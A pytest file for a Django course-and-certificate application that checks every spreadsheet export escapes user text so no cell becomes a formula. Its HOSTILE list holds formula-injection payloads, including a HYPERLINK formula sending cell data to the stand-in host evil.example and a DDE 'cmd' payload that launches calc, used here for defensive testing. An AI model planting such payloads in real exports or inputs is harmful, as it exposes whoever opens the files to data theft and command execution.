# ruff: noqa: F811 (past_session is a fixture imported from the certificates tests)
"""Issue #15 item 2: user text in every spreadsheet export is written as text, never as a formula.

Every export listed in `academy.spreadsheets.EXPORTS` is run with people named `=…`, `+…`, `-…`,
`@…`, tab… and CR…; no .xlsx cell may be a formula and no .csv field may start with a formula character.
`test_every_export_is_listed` fails when a module starts writing spreadsheets without being listed.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from academy.spreadsheets import EXPORTS, FORMULA_STARTS, PHONE, safe_cell
from certificates.services.issuance import issue_certificate
from courses.services import imports, roster
from tests import factories
from tests.certificates.conftest import make_template, past_session, register  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&D3,"Alice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
WRITERS = re.compile(r"csv_writer\(|csv\.writer|csv\.DictWriter|Workbook\(|list_export\s*=")


def test_every_export_is_listed():
    found = set()
    for app in ("academy", "courses", "certificates", "reports", "accounts"):
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheets.py":
                continue
            if WRITERS.search(path.read_text(encoding="utf-8")):
                found.add(".".join(path.relative_to(ROOT).with_suffix("").parts))
    assert found == set(EXPORTS), "a spreadsheet export is missing from academy.spreadsheets.EXPORTS"


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(0) == 0
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text
    assert safe_cell(None) == ""


def _hostile_people(session):
    people = []
    for name in HOSTILE:
        user = factories.participant()
        user.profile.full_name = name
        user.profile.position = name
        user.profile.save()
        people.append(register(session, user))
    return people


def assert_xlsx_safe(content):
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert PHONE.match(cell.value) or not cell.value.startswith(FORMULA_STARTS), cell.value
                    texts.append(cell.value)
    return texts


def assert_csv_safe(text):
    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]
    for field in fields:
        assert PHONE.match(field) or not field.startswith(FORMULA_STARTS), field  # a phone stays plain
    return fields


def assert_names_present(texts):
    joined = "\n".join(texts)
    assert "'=HYPERLINK" in joined and "'@SUM(A1:A9)" in joined and "'-2+3" in joined


def test_roster_export(past_session, admin_user):
    _hostile_people(past_session)
    assert_names_present(assert_xlsx_safe(roster.export_roster_xlsx(past_session, actor=admin_user)))


@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
def test_certificate_registry_export(client, past_session, admin_user, export_format):
    make_template()
    for registration in _hostile_people(past_session):
        issue_certificate(registration, issued_by=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse("certificate_registry:index"), {"export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    texts = assert_xlsx_safe(content) if export_format == "xlsx" else assert_csv_safe(content.decode("utf-8"))
    assert_names_present(texts)


@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
def test_report_participant_list_export(client, past_session, admin_user, export_format):
    _hostile_people(past_session)
    client.force_login(admin_user)
    response = client.get(reverse("reports_admin:participant_list"), {"export": export_format})
    assert response.status_code == 200
    if export_format == "xlsx":
        texts = assert_xlsx_safe(response.content)
    else:
        texts = assert_csv_safe(response.content.decode("utf-8"))
    assert_names_present(texts)


def test_import_report_csv():
    row = type("Row", (), {})
    rows = []
    for name in HOSTILE:
        one = row()
        one.number, one.action, one.status, one.errors, one.warnings = 1, name, name, [name], []
        rows.append(one)
    report = type("Report", (), {})()
    report.rows = rows
    text = imports.write_csv_report(report)
    assert_names_present(assert_csv_safe(text))
